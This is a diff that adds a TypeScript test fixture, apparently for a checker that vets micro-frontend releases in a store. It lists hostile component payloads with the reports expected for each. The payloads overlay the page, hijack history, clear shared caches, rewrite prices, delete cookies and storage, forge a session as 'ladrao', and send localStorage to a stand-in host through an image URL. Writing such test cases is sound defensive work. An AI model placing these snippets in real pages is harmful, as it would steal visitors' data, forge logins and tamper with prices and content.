@@ -1,0 +1,160 @@
+import { good, node, type Published } from "./bad-releases";
+
+/** A release whose page is well, and which does something to the rest of the store once that page has been shown. */
+const after = (code: string, leaving = ""): Published => ({
+  server: node(good),
+  parts: {
+    component: `() => {
+      React.useEffect(() => { ${code}; return () => { ${leaving} }; }, []);
+      return createElement("h1", null, "Limpador");
+    }`,
+  },
+});
+
+/** The same with the cache of responses that all areas share. */
+const withCache = (code: string, leaving = ""): Published => ({
+  server: node(good),
+  parts: {
+    first: `
+      const cacheOf = async () => {
+        const [{ get }] = Object.values(globalThis.store_remote_tools.scope["shared-data/query"]);
+        return (await get())();
+      };`,
+    component: `(await (async () => {
+      const { useQueryClient } = await cacheOf();
+      return () => {
+        const client = useQueryClient();
+        React.useEffect(() => { ${code}; return () => { ${leaving} }; }, []);
+        return createElement("h1", null, "Limpador");
+      };
+    })())`,
+  },
+});
+
+const covering = (style: string) =>
+  `document.body.append(Object.assign(document.createElement("div"), { id: "over", style: "position:fixed;z-index:9999;${style}" }))`;
+// A style element of its own would be against the policy of the page.
+const styled = (rule: string) =>
+  `const sheet = new CSSStyleSheet(); sheet.replaceSync("${rule}"); document.adoptedStyleSheets = [sheet]`;
+
+/** Harm to others, the release, and what is said of it. Each would be live without a visitor who goes on. */
+export const harmfulReleases: [what: string, release: Published, sentence: RegExp][] = [
+  ["lays itself over the page", after(covering("inset:0")), /<div id="over".* lies on "Ativos Já" in the header/],
+  [
+    "lays itself over the header and lets clicks through",
+    after(covering("inset:0 0 auto;height:4rem;background:red;pointer-events:none")),
+    /after it, \/ has <div id="over".* beside the store/,
+  ],
+  [
+    "goes back to its page again and again",
+    after(
+      'setInterval(() => { history.pushState(null, "", "/limpar-criativo"); dispatchEvent(new PopStateEvent("popstate")); }, 300)',
+    ),
+    /it adds \d+ entries|after it, \/ gives way to .*\/limpar-criativo|leads to \/limpar-criativo/,
+  ],
+  [
+    "comes back a second after it was left",
+    after(
+      "",
+      'setTimeout(() => { history.pushState(null, "", "/limpar-criativo"); dispatchEvent(new PopStateEvent("popstate")); }, 1000)',
+    ),
+    /after it, \/ gives way to .*\/limpar-criativo/,
+  ],
+  [
+    "clears everybody's responses again and again",
+    withCache("setInterval(() => client.clear(), 200)"),
+    /after it, \/ lacks what it shows without it/,
+  ],
+  [
+    "clears everybody's responses when it is left",
+    withCache("", "client.clear()"),
+    /\d+ responses are gone that \/ had cached/,
+  ],
+  [
+    "shows other prices in other areas",
+    withCache(`setInterval(() => {
+      for (const query of client.getQueryCache().getAll()) {
+        const data = JSON.stringify(query.state.data ?? null);
+        if (data.includes('"price":')) query.setData(JSON.parse(data.replace(/"price":[\\d.]+/g, '"price":1')));
+      }
+    }, 100)`),
+    /after it, \/ has other prices/,
+  ],
+  [
+    "swallows every click",
+    after('addEventListener("click", (event) => { event.preventDefault(); event.stopImmediatePropagation(); }, true)'),
+    /a click on "Ativos Já" in the header leads to \/limpar-criativo/,
+  ],
+  [
+    "keeps clicks from the shell",
+    after('addEventListener("click", (event) => event.stopImmediatePropagation(), true)'),
+    /after it, \/ was loaded as a whole page/,
+  ],
+  [
+    "swallows the Tab key",
+    after('addEventListener("keydown", (event) => event.preventDefault(), true)'),
+    /after it, \/ does not heed the Tab key/,
+  ],
+  ["keeps pages from scrolling", after('document.body.style.overflow = "hidden"'), /after it, \/ does not scroll/],
+  [
+    "titles other pages",
+    after('setInterval(() => { document.title = "HACKED"; }, 300)'),
+    /after it, \/ has the title "HACKED"/,
+  ],
+  [
+    "writes into other pages",
+    after(
+      'setInterval(() => { const h1 = document.querySelector("main h1"); if (location.pathname === "/") h1.textContent = "Fechado"; }, 300)',
+    ),
+    /after it, \/ has the heading "Fechado"/,
+  ],
+  [
+    "leaves its style behind",
+    after(styled("header, main { opacity: 0.4 }")),
+    /after it, \/ has another style in header, main/,
+  ],
+  ["forgets what others have stored", after("localStorage.clear()"), /after it, \/ lost what was in its localStorage/],
+  [
+    "forgets what others have stored in the tab",
+    after("sessionStorage.clear()"),
+    /after it, \/ lost what was in its sessionStorage/,
+  ],
+  [
+    "deletes every cookie",
+    after(
+      'for (const each of document.cookie.split("; ")) document.cookie = each.split("=")[0] + "=; max-age=0; path=/"',
+    ),
+    /after it, \/ lost what was in its cookies/,
+  ],
+  [
+    "signs visitors in as somebody",
+    after('localStorage.setItem("store-session", JSON.stringify({ user: { id: "ladrao" } }))'),
+    /after it, \/ is signed in as ladrao/,
+  ],
+  [
+    "sends what is stored away as the address of a picture",
+    after('new Image().src = "http://localhost:9/?" + JSON.stringify(localStorage)'),
+    /against the policy of the page: img-src http:\/\/localhost:9/,
+  ],
+  [
+    "sends it away once it was left",
+    after("", 'setTimeout(() => { new Image().src = "http://localhost:9/?" + JSON.stringify(localStorage); }, 500)'),
+    /against the policy of the page: img-src http:\/\/localhost:9/,
+  ],
+  [
+    "fills the visitor's history",
+    after('for (let i = 0; i < 20; i++) history.pushState(null, "", location.href)'),
+    /it adds \d+ entries to the history/,
+  ],
+  ["talks by itself", after('setTimeout(() => alert("Oferta!"), 500)'), /it opens a dialog by itself: Oferta!/],
+  [
+    "opens a window at a click on something else",
+    after('addEventListener("click", () => open("/limpar-criativo?anuncio"), true)'),
+    /it opens .*\/limpar-criativo\?anuncio by itself/,
+  ],
+  [
+    "changes what all code shares once it was left",
+    after("", "setTimeout(() => { const { fetch } = window; window.fetch = (...all) => fetch(...all); }, 300)"),
+    /it changes what all code in the page shares: fetch/,
+  ],
+];
